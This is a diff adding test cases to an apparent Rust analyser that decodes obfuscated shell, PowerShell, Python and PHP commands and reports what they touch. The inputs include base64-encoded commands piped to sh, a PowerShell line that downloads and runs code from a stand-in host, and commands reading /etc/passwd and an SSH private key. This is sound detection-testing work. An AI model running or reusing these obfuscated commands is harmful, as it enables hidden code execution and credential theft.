@@ -4,6 +4,56 @@ use super::Case;
 
 pub(super) const CASES: &[Case] = &[
     (
+        "echo H4sIAAAAAAACA0tOLFFI4wIAvtaSlAYAAAA= | base64 -d | gunzip | sh",
+        &[
+            "echo H4sIAAAAAAACA0tOLFFI4wIAvtaSlAYAAAA=",
+            "base64 -d <0",
+            "gunzip <1",
+            "sh <2",
+            "[base64 -d | gunzip | sh] cat f R=f",
+        ],
+    ),
+    (
+        "echo Y2F0IGY= > /tmp/e; base64 -d /tmp/e | sh",
+        &[
+            "echo Y2F0IGY= W=/tmp/e",
+            "base64 -d /tmp/e R=/tmp/e",
+            "sh <1",
+            "[base64 -d | sh] cat f R=f",
+        ],
+    ),
+    (
+        "pwsh -enc aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBoAC4AZQB4AGEAbQBwAGwAZQAuAG8AcgBnAC8AYQApAA==",
+        &[
+            "pwsh -enc aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBoAC4AZQB4AGEAbQBwAGwAZQAuAG8AcgBnAC8AYQApAA==",
+            "[powershell] iwr http://h.example.org/a H=http://h.example.org/a",
+            "[powershell] iex \"\"$ ^1",
+        ],
+    ),
+    (
+        "powershell -NoProfile -Command \"Get-Content f | Out-File g; $x = Remove-Item h\"",
+        &[
+            "powershell -NoProfile -Command \"Get-Content f | Out-File g; $x = Remove-Item h\"~",
+            "[powershell] get-content f R=f",
+            "[powershell] out-file g <1 W=g",
+            "[powershell] remove-item h D=h",
+        ],
+    ),
+    (
+        "python3 -c \"exec(__import__('base64').b64decode('b3BlbigiL2V0Yy9wYXNzd2QiKQ=='))\"",
+        &[
+            "python3 -c exec(__import__('base64').b64decode('b3BlbigiL2V0Yy9wYXNzd2QiKQ==')) R=/etc/passwd",
+        ],
+    ),
+    (
+        "php -r 'system(base64_decode(\"Y2F0IGY=\"));'",
+        &[
+            "php -r system(base64_decode(\"Y2F0IGY=\"));",
+            "[php -r] cat f R=f",
+        ],
+    ),
+    ("x=$((16#63)); echo ${x:$((0+1)):1}", &["echo 9"]),
+    (
         "echo Y2F0IH4vLnNzaC9pZF9yc2E= | base64 -d | sh",
         &[
             "echo Y2F0IH4vLnNzaC9pZF9yc2E=",
